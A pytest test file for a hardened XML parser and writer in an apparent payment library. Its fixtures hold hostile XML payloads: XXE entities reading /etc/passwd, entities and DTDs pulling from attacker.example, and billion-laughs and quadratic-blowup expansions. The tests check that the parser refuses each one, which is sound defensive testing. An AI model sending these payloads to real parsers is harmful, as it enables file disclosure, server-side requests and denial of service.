"""paydesk.protocol.xmlcodec: the hardened XML parser and its writer."""

from __future__ import annotations

import builtins
import socket
import time
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from paydesk.protocol.errors import HostileXML, InputTooLarge, MalformedInput
from paydesk.protocol.xmlcodec import DEFAULT_MAX_BYTES, parse_xml, to_xml

# --------------------------------------------------------------------------- hostile input

XXE_FILE = (
    b'<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    b"<xml><appid>&xxe;</appid></xml>"
)
XXE_HTTP = (
    b'<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "http://attacker.example/x">]>'
    b"<xml><appid>&xxe;</appid></xml>"
)
# lol9 expands to 10**9 "lol"s: three bytes of body per gigabyte of memory.
BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY lol0 "lol">'
    + b"".join(b'<!ENTITY lol%d "%s">' % (n, b"&lol%d;" % (n - 1) * 10) for n in range(1, 10))
    + b"]><xml><a>&lol9;</a></xml>"
)
QUADRATIC_BLOWUP = (
    b'<!DOCTYPE xml [<!ENTITY a "' + b"a" * 20000 + b'">]><xml><a>' + b"&a;" * 10000 + b"</a></xml>"
)
BARE_DTD = b"<!DOCTYPE xml><xml><a>1</a></xml>"
EXTERNAL_DTD = b'<!DOCTYPE xml SYSTEM "http://attacker.example/evil.dtd"><xml><a>1</a></xml>'
PARAMETER_ENTITY = (
    b'<!DOCTYPE xml [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>'
    b"<xml><a>1</a></xml>"
)
UNDECLARED_ENTITY = b"<xml><a>&xxe;</a></xml>"
TEN_MEGABYTES = b"<xml><a>" + b"a" * (10 * 1024 * 1024) + b"</a></xml>"


class _Touched(Exception):
    """Raised by the patched open/connect: the parser tried to reach a file or the network."""


@pytest.fixture
def no_file_or_network(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Make every file open and socket connect fail loudly, and record any attempt."""
    attempts: list[str] = []

    def refuse_open(*args: Any, **kwargs: Any) -> None:
        attempts.append(f"open{args!r}")
        raise _Touched("open")

    def refuse_connect(self: socket.socket, address: Any) -> None:
        attempts.append(f"connect{address!r}")
        raise _Touched("connect")

    monkeypatch.setattr(builtins, "open", refuse_open)
    monkeypatch.setattr(socket.socket, "connect", refuse_connect)
    return attempts


@pytest.mark.parametrize(
    ("body", "error", "says"),
    [
        pytest.param(XXE_FILE, HostileXML, "DOCTYPE", id="external-entity-file"),
        pytest.param(XXE_HTTP, HostileXML, "DOCTYPE", id="external-entity-http"),
        pytest.param(BILLION_LAUGHS, HostileXML, "DOCTYPE", id="billion-laughs"),
        pytest.param(QUADRATIC_BLOWUP, HostileXML, "DOCTYPE", id="quadratic-blowup"),
        pytest.param(BARE_DTD, HostileXML, "DOCTYPE", id="bare-dtd"),
        pytest.param(EXTERNAL_DTD, HostileXML, "DOCTYPE", id="external-dtd"),
        pytest.param(PARAMETER_ENTITY, HostileXML, "DOCTYPE", id="parameter-entity"),
        pytest.param(UNDECLARED_ENTITY, HostileXML, "undeclared entity", id="undeclared-entity"),
        pytest.param(TEN_MEGABYTES, InputTooLarge, "65536-byte cap", id="ten-megabytes"),
    ],
)
def test_hostile_xml_is_refused_fast_without_touching_files_or_network(
    no_file_or_network: list[str], body: bytes, error: type[Exception], says: str
) -> None:
    started = time.perf_counter()
    with pytest.raises(error, match=says):
        parse_xml(body)
    # Generous bound: a refusal takes microseconds, an expansion would take seconds.
    assert time.perf_counter() - started < 1.0
    assert no_file_or_network == []


def test_the_size_cap_counts_utf8_bytes_of_text_input() -> None:
    text = "<xml><a>" + "支" * 30000 + "</a></xml>"  # 30 018 characters, 90 018 bytes
    assert len(text) < DEFAULT_MAX_BYTES
    with pytest.raises(InputTooLarge, match="90018 bytes"):
        parse_xml(text)
    assert parse_xml(text, max_bytes=100_000)["a"] == "支" * 30000


def test_text_over_the_cap_in_characters_is_refused_before_encoding() -> None:
    with pytest.raises(InputTooLarge, match="70018 characters is over the 65536-byte cap"):
        parse_xml("<xml><a>" + "a" * 70000 + "</a></xml>")


def test_the_size_cap_is_inclusive() -> None:
    body = b"<xml><a>" + b"a" * 100 + b"</a></xml>"
    assert parse_xml(body, max_bytes=len(body))["a"] == "a" * 100
    with pytest.raises(InputTooLarge):
        parse_xml(body, max_bytes=len(body) - 1)


# --------------------------------------------------------------------------- encodings


def test_non_utf8_bytes_are_refused() -> None:
    gbk = "<xml><a>支付</a></xml>".encode("gbk")
    with pytest.raises(MalformedInput, match="not well-formed"):
        parse_xml(gbk)


def test_a_declared_encoding_other_than_utf8_is_refused() -> None:
    body = b'<?xml version="1.0" encoding="GBK"?><xml><a>1</a></xml>'
    with pytest.raises(MalformedInput, match="must be UTF-8, it declares 'GBK'"):
        parse_xml(body)


@pytest.mark.parametrize(
    "declaration",
    [
        '<?xml version="1.0"?>',
        '<?xml version="1.0" encoding="utf-8"?>',
        '<?xml version="1.0" encoding="UTF8"?>',
    ],
)
def test_a_utf8_or_absent_declaration_is_accepted(declaration: str) -> None:
    assert parse_xml(f"{declaration}<xml><a>支付</a></xml>".encode()) == {"a": "支付"}


def test_text_that_cannot_be_utf8_is_refused() -> None:
    with pytest.raises(MalformedInput, match="cannot be encoded as UTF-8"):
        parse_xml("<xml><a>\udc80</a></xml>")


# --------------------------------------------------------------------------- structure


def test_leaves_become_text_and_branches_become_dicts() -> None:
    body = (
        b'<xml>\n  <a attr="ignored">1</a>\n  <b><![CDATA[x <y> & ]]]]><![CDATA[>]]></b>\n'
        b"  <c>&lt;&gt;&amp;&quot;&apos;&#65;&#x4E2D;</c>\n  <d/>\n  <e>  </e>\n"
        b"  <!-- a comment --><?pi ignored?>\n"
        b"  <f>\n    <g>7</g>\n    <h><i>deep</i></h>\n  </f>\n</xml>\n"
    )
    assert parse_xml(body) == {
        "a": "1",
        "b": "x <y> & ]]>",
        "c": "<>&\"'A中",
        "d": "",
        "e": "  ",
        "f": {"g": "7", "h": {"i": "deep"}},
    }


def test_an_empty_root_gives_an_empty_dict() -> None:
    assert parse_xml(b"<xml/>") == {}
    assert parse_xml(b"<xml>\n</xml>") == {}


def test_the_root_is_checked_unless_none() -> None:
    with pytest.raises(MalformedInput, match="root is <root>, expected <xml>") as caught:
        parse_xml(b"<root><a>1</a></root>")
    assert caught.value.field == "root"
    assert parse_xml(b"<root><a>1</a></root>", root="root") == {"a": "1"}
    assert parse_xml(b"<anything><a>1</a></anything>", root=None) == {"a": "1"}


@pytest.mark.parametrize(
    "body",
    [b"<xml><a>1</a><a>2</a></xml>", b"<xml><f><a>1</a><a>1</a></f></xml>"],
    ids=["at-root", "nested"],
)
def test_a_repeated_tag_is_refused(body: bytes) -> None:
    with pytest.raises(MalformedInput, match="repeats the tag <a>") as caught:
        parse_xml(body)
    assert caught.value.field == "a"


@pytest.mark.parametrize(
    ("body", "says"),
    [
        (b"<xml>loose text</xml>", "<xml> mixes text with child elements"),
        (b"<xml><a>1</a>tail</xml>", "<xml> mixes text with child elements"),
        (b"<xml>head<a>1</a></xml>", "text next to the element <a>"),
        (b"<xml><f>x<g>1</g></f></xml>", "text next to the element <g>"),
        (b"<xml><f><g>1</g>x</f></xml>", "<f> mixes text with child elements"),
    ],
)
def test_text_mixed_with_elements_is_refused(body: bytes, says: str) -> None:
    with pytest.raises(MalformedInput, match=says):
        parse_xml(body)


def test_nesting_deeper_than_max_depth_is_refused() -> None:
    assert parse_xml(b"<xml><a>1</a></xml>", max_depth=1) == {"a": "1"}
    with pytest.raises(MalformedInput, match="deeper than 1 levels") as caught:
        parse_xml(b"<xml><a><b>1</b></a></xml>", max_depth=1)
    assert caught.value.field == "b"
    deep = b"<xml>" + b"<a>" * 9 + b"x" + b"</a>" * 9 + b"</xml>"
    with pytest.raises(MalformedInput, match="deeper than 8 levels"):
        parse_xml(deep)
    assert parse_xml(deep, max_depth=9)["a"]["a"]["a"]["a"]["a"]["a"]["a"]["a"]["a"] == "x"


@pytest.mark.parametrize(
    "body",
    [b"", b"not xml", b"<xml><a>1</xml>", b"<xml></xml><xml></xml>", b"<xml><a>&#0;</a></xml>"],
)
def test_badly_formed_xml_is_refused_with_a_position(body: bytes) -> None:
    with pytest.raises(MalformedInput, match=r"not well-formed XML: .* \(line \d+, column \d+\)"):
        parse_xml(body)


# --------------------------------------------------------------------------- writing


def test_to_xml_writes_cdata_for_text_and_plain_ints_in_order() -> None:
    assert to_xml({"return_code": "SUCCESS", "total_fee": 100, "neg": -1}) == (
        "<xml><return_code><![CDATA[SUCCESS]]></return_code><total_fee>100</total_fee>"
        "<neg>-1</neg></xml>"
    )


def test_to_xml_splits_a_literal_cdata_end_and_keeps_carriage_returns() -> None:
    assert to_xml({"a": "]]>"}) == "<xml><a><![CDATA[]]]]><![CDATA[>]]></a></xml>"
    assert to_xml({"a": "x\r\ny"}) == "<xml><a><![CDATA[x]]>&#13;<![CDATA[\ny]]></a></xml>"
    assert parse_xml(to_xml({"a": "x\r\ny]]>"})) == {"a": "x\r\ny]]>"}


def test_to_xml_without_cdata_escapes() -> None:
    written = to_xml({"a": "<&>\r"}, root="root", cdata=False)
    assert written == "<root><a>&lt;&amp;&gt;&#13;</a></root>"
    assert parse_xml(written, root="root") == {"a": "<&>\r"}


def test_to_xml_nests_mappings() -> None:
    written = to_xml({"a": {"b": "1", "c": {"d": 2}}})
    assert written == "<xml><a><b><![CDATA[1]]></b><c><d>2</d></c></a></xml>"


@pytest.mark.parametrize("tag", ["", "1a", "a b", "a<b", "中"])
def test_to_xml_refuses_tags_that_are_not_xml_names(tag: str) -> None:
    with pytest.raises(MalformedInput, match="cannot be an XML tag"):
        to_xml({tag: "x"})
    with pytest.raises(MalformedInput, match="cannot be an XML tag"):
        to_xml({"a": "x"}, root=tag)


@pytest.mark.parametrize(
    ("value", "says"),
    [
        (True, "a bool is not an XML value"),
        (1.5, "float is not an XML value"),
        (None, "NoneType is not an XML value"),
        ("\x00", "character XML cannot carry"),
        ("\ufffe", "character XML cannot carry"),
    ],
)
def test_to_xml_refuses_values_xml_cannot_carry(value: Any, says: str) -> None:
    with pytest.raises(MalformedInput, match=says) as caught:
        to_xml({"field": value})
    assert caught.value.field == "field"


# --------------------------------------------------------------------------- round trips

TAGS = st.from_regex(r"[A-Za-z_][A-Za-z0-9_.\-]{0,15}", fullmatch=True)
XML_TEXT = st.text(
    st.characters(
        codec="utf-8",
        exclude_characters="\ufffe\uffff",
    ).filter(lambda c: c in "\t\n\r" or c >= " "),
    max_size=40,
)
LEAVES = st.one_of(XML_TEXT, st.integers(min_value=-(2**63), max_value=2**63))
FLAT = st.dictionaries(
    TAGS, LEAVES | st.sampled_from(["]]>", "a]]>b", "\r\n", "支付测试"]), max_size=8
)


def _as_parsed(fields: dict[str, Any]) -> dict[str, Any]:
    return {k: _as_parsed(v) if isinstance(v, dict) else str(v) for k, v in fields.items()}


@settings(max_examples=150)
@given(fields=FLAT, cdata=st.booleans())
def test_flat_fields_round_trip(fields: dict[str, Any], cdata: bool) -> None:
    assert parse_xml(to_xml(fields, cdata=cdata)) == _as_parsed(fields)


@settings(max_examples=75)
@given(
    fields=st.recursive(
        LEAVES,
        lambda children: st.dictionaries(TAGS, children, min_size=1, max_size=4),
        max_leaves=12,
    ).filter(lambda v: isinstance(v, dict))
)
def test_nested_fields_round_trip(fields: dict[str, Any]) -> None:
    assert parse_xml(to_xml(fields, root="root"), root="root", max_depth=12) == _as_parsed(fields)


@settings(max_examples=100)
@given(data=st.binary(max_size=200))
def test_arbitrary_bytes_only_ever_raise_protocol_errors(data: bytes) -> None:
    try:
        parsed = parse_xml(data)
    except MalformedInput:
        return
    assert isinstance(parsed, dict)
